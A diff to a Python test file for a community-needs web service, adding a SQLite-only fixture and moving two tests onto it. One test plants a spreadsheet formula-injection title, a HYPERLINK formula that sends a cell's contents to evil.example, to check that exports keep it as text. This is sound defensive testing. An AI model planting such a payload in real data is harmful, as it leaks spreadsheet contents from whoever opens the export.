@@ -16,6 +16,14 @@ def svc(request, tmp_path):
         yield running
 
 
+@pytest.fixture
+def sqlite_svc(tmp_path):
+    """For what the database cannot change (the cells an export writes, the schema's number rules)."""
+    with database("sqlite", tmp_path) as url, service(url) as running:
+        running.load_lists()
+        yield running
+
+
 def test_api_create_need_then_retry_is_idempotent(svc):
     need = {"id": "n-new", "title": "社区需要心理辅导讲座"}
     first = svc.call("POST", "/v1/needs", json=need)
@@ -183,7 +191,8 @@ def test_api_every_list_export_reads_back_in_unchanged(svc):
         assert result.json() == {"created": 0, "unchanged": count, "skipped": []}, kind
 
 
-def test_api_a_formula_title_is_text_in_every_export(svc):
+def test_api_a_formula_title_is_text_in_every_export(sqlite_svc):
+    svc = sqlite_svc
     planted = '=HYPERLINK("http://evil.example/?q="&B2,"详情")'
     need = {**NEEDS[0], "id": "n-evil", "title": planted + NEEDS[0]["title"]}
     assert svc.call("POST", "/v1/needs", json=need).status_code == 201
@@ -215,7 +224,8 @@ def test_api_a_lone_surrogate_is_a_422_never_a_500(svc):
     assert svc.call("GET", "/v1/needs", params={"limit": 1}).json()["total"] == len(NEEDS)  # nothing stored
 
 
-def test_api_numbers_in_a_body_must_be_json_numbers(svc):
+def test_api_numbers_in_a_body_must_be_json_numbers(sqlite_svc):
+    svc = sqlite_svc
     # false was stored as 0.0 and "2" taken as 2: a client mixing up fields gets told which one.
     for extra, field in (({"lat": False, "lon": 104.06}, "lat"), ({"lat": 30.6, "lon": "104.06"}, "lon"),
                          ({"capacity": "2"}, "capacity"), ({"capacity": True}, "capacity")):
